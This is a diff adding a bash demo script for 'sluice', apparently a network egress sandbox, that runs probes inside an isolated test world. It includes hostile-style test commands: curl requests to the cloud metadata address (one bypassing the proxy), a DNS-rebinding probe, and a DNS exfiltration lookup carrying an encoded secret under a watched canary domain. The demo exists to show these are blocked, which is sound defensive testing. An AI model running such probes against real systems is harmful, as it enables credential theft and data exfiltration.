@@ -1,0 +1,102 @@
+#!/usr/bin/env bash
+# SPDX-License-Identifier: MIT
+# make demo: the main job on a self-contained test world. Builds a world
+# (namespaces that reach nothing outside this machine), starts sluiced in its
+# broker namespace, creates a sandbox, and shows what gets through and what
+# does not, with the reasons; then tears everything down.
+set -u
+cd "$(dirname "$0")/.."
+. tests/world/world.sh
+
+BIN=${SLUICE_BIN:-$PWD/bin}
+B=$(tput bold 2>/dev/null || true)
+N=$(tput sgr0 2>/dev/null || true)
+step() { printf '\n%s== %s%s\n' "$B" "$*" "$N"; }
+show() { printf '$ %s\n' "$*"; }
+
+step "Building the test world: an 'internet' namespace (dnsmasq, echo servers, decoys) and a broker namespace"
+world_up || exit 1
+BPID=
+SB=$WORLD_PREFIX-demo
+D=$WORLD_DIR
+SOCK=$D/ctl.sock
+S() { ip netns exec "$WORLD_BRK" "$BIN/sluice" --socket "$SOCK" "$@"; }
+cleanup() {
+	step "Teardown"
+	S delete "$SB" 2>&1 | sed 's/^/  /'
+	if [ -n "$BPID" ]; then
+		kill -TERM "$BPID" 2>/dev/null
+		for _ in $(seq 50); do kill -0 "$BPID" 2>/dev/null || break; sleep 0.1; done
+		wait "$BPID" 2>/dev/null
+	fi
+	world_down
+	echo "  world $WORLD_PREFIX removed; namespaces left: $(ip netns list | grep -c "^$WORLD_PREFIX" || true)"
+}
+trap cleanup EXIT
+
+cat >"$D/sluiced.yaml" <<EOF
+control_socket: $SOCK
+state_dir: $D/state
+upstream_resolvers: [11.0.1.53]
+audit_log: $D/audit.log
+workers: 2
+connect_timeout: 2s
+EOF
+cp tests/demo-policy.yaml "$D/policy.yaml"
+step "The policy"
+sed 's/^/  /' "$D/policy.yaml"
+show sluice policy check policy.yaml
+"$BIN/sluice" policy check "$D/policy.yaml"
+
+step "Starting sluiced in the broker namespace"
+ip netns exec "$WORLD_BRK" "$BIN/sluiced" --config "$D/sluiced.yaml" 2>>"$D/sluiced.log" &
+BPID=$!
+for _ in $(seq 50); do [ -S "$SOCK" ] && break; sleep 0.1; done
+[ -S "$SOCK" ] || { echo "sluiced did not start:"; cat "$D/sluiced.log"; exit 1; }
+echo "  sluiced pid $BPID, control socket $SOCK"
+
+step "Creating the sandbox"
+show sluice create "$SB" --policy policy.yaml
+S create "$SB" --policy "$D/policy.yaml" || exit 1
+S list
+X() { S exec "$SB" -- "$@"; }
+NOPROXY="env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy"
+
+step "1. An allowed host: through the explicit proxy, and transparently (no proxy variables)"
+show curl https://echo.world.test/hello
+X curl -s -m 10 --cacert "$WORLD_CA" -o /dev/null -w '  HTTP %{http_code} via proxy\n' https://echo.world.test/hello
+X $NOPROXY curl -s -m 10 --cacert "$WORLD_CA" -o /dev/null -w '  HTTP %{http_code} transparent\n' https://echo.world.test/hello
+
+step "2. A host outside the policy"
+show curl http://other.world.test/
+X curl -s -m 10 -o /dev/null -D - http://other.world.test/ | grep -Ei '^(HTTP|x-sluice)' | sed 's/^/  /'
+show "getent hosts other.world.test   (DNS: NXDOMAIN, never asked upstream)"
+X $NOPROXY getent ahostsv4 other.world.test || echo "  not resolved"
+
+step "3. An address literal, and the cloud metadata address"
+show curl http://11.0.2.10/
+X curl -s -m 10 -o /dev/null -D - http://11.0.2.10/ | grep -Ei '^(HTTP|x-sluice)' | sed 's/^/  /'
+show curl http://169.254.169.254/latest/meta-data/
+X curl -s -m 10 -o /dev/null -D - http://169.254.169.254/latest/meta-data/ | grep -Ei '^(HTTP|x-sluice)' | sed 's/^/  /'
+show "curl --noproxy '*' http://169.254.169.254/   (bypassing the proxy)"
+X $NOPROXY curl -s -m 5 -o /dev/null http://169.254.169.254/ && echo "  LEAK" || echo "  refused (curl exit $?)"
+
+step "4. An allowed name that resolves into a private range (DNS rebinding)"
+show curl http://rebind.world.test/
+X curl -s -m 10 -o /dev/null -D - http://rebind.world.test/ | grep -Ei '^(HTTP|x-sluice)' | sed 's/^/  /'
+
+step "5. DNS exfiltration: a secret in a label under a name the attacker watches"
+show "getent hosts c2VjcmV0.canary.world.test"
+X $NOPROXY getent ahostsv4 c2VjcmV0.canary.world.test || echo "  not resolved"
+if grep -q c2VjcmV0 "$D/dnsmasq.log"; then echo "  LEAK: the resolver saw it"; else
+	echo "  the world's resolver saw no query for it"; fi
+
+step "6. A credential the sandbox never sees"
+echo "  (credential injection is not built yet: see README, Status)"
+
+step "Audit log (one JSON line per decision)"
+sed 's/^/  /' "$D/audit.log"
+
+step "Decoys (private, metadata, loopback hosts inside the test world): hits"
+hits=$(world_decoy_hits)
+if [ -z "$hits" ]; then echo "  none"; else echo "$hits" | sed 's/^/  /'; fi
